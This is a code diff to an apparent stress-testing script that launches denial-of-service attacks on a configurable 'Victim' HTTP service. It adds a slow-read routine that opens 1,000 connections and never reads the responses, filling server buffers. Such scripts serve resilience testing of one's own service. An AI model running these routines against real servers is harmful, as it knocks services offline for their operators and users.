@@ -21,6 +21,7 @@ import argparse
 import asyncio
 import json
 import os
+import random
 import resource
 import signal
 import socket
@@ -55,7 +56,8 @@ CALLS = ("/v1/me", "/healthz")
 PAUSE_SECONDS = 0.02
 MEGABYTE = 1_000_000
 HELD_BACK = 1_000
-"""Connections that send all of a body but its end; as many as there are for each form of nothing, half headers."""
+"""Connections that send all of a body but its end."""
+UNREAD_SECONDS = 10.0
 JOB = {"dataset": "digits", "model": "mlp", "optimizer": "adam", "budget": {"epochs": 1}}
 DEFAULT_PORT = 8000
 
@@ -83,21 +85,27 @@ class Victim:
 
 
 async def hold(victim: Victim, sent: bytes) -> None:
-    """Send this and wait, reading nothing, until the server closes the connection; then again."""
+    """Send this and wait until the server closes the connection; a second later, again."""
     while True:
         with suppress(OSError):
-            reader, writer = await asyncio.open_connection(victim.host, victim.port, limit=1)
+            reader, writer = await asyncio.open_connection(victim.host, victim.port)
             try:
                 writer.write(sent)
-                await writer.drain()
-                writer.transport.pause_reading()  # type: ignore[attr-defined] # of a socket's transport
-                while not writer.transport.is_closing():
-                    await asyncio.sleep(0.5)
-                    writer.write(b"")
-                    reader.feed_data(b"")
+                while await reader.read(MEGABYTE):
+                    pass
             finally:
                 writer.transport.abort()
         await asyncio.sleep(1)
+
+
+async def ignore(victim: Victim, sent: bytes) -> None:
+    """Send this and read nothing of the response; after some seconds, again."""
+    while True:
+        with suppress(OSError):
+            _, writer = await asyncio.open_connection(victim.host, victim.port, limit=1)  # the kernel's buffer fills
+            writer.write(sent)
+            await asyncio.sleep(UNREAD_SECONDS * (0.5 + random.random()))
+            writer.transport.abort()
 
 
 async def repeat(victim: Victim, request: bytes) -> None:
@@ -122,7 +130,7 @@ def connections(victim: Victim) -> Sequence[Awaitable[None]]:
 
 def readers(victim: Victim) -> Sequence[Awaitable[None]]:
     """Attack 2."""
-    return [hold(victim, victim.head("GET /dashboard/plotly.js")) for _ in range(1_000)]
+    return [ignore(victim, victim.head("GET /dashboard/plotly.js")) for _ in range(1_000)]
 
 
 def bodies(victim: Victim) -> Sequence[Awaitable[None]]:
